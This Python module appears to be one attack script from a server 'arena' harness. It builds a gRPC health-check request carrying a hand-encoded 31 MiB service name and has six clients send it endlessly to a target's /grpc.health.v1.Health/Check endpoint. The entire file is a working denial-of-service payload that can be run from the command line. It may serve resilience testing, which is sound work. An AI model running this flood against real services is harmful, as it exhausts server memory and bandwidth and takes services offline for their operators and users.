"""Whole names of 31 MiB of services that are asked for their health."""

from .arena import Attack, Target, strike_from_command_line
from .calls import call_for_ever

ATTACK = Attack("names of 31 MiB", "Health/Check of 6 clients, one by one")
CLIENTS = 6


def strike(target: Target) -> None:
    """Ask for the health of services with names of 31 MiB."""
    size = 31 << 20
    request = b"\x0a" + bytes([size & 0x7F | 0x80, size >> 7 & 0x7F | 0x80])
    request += bytes([size >> 14 & 0x7F | 0x80, size >> 21]) + b"x" * size
    call_for_ever(target.grpc, "/grpc.health.v1.Health/Check", request, CLIENTS)


if __name__ == "__main__":
    strike_from_command_line(strike)
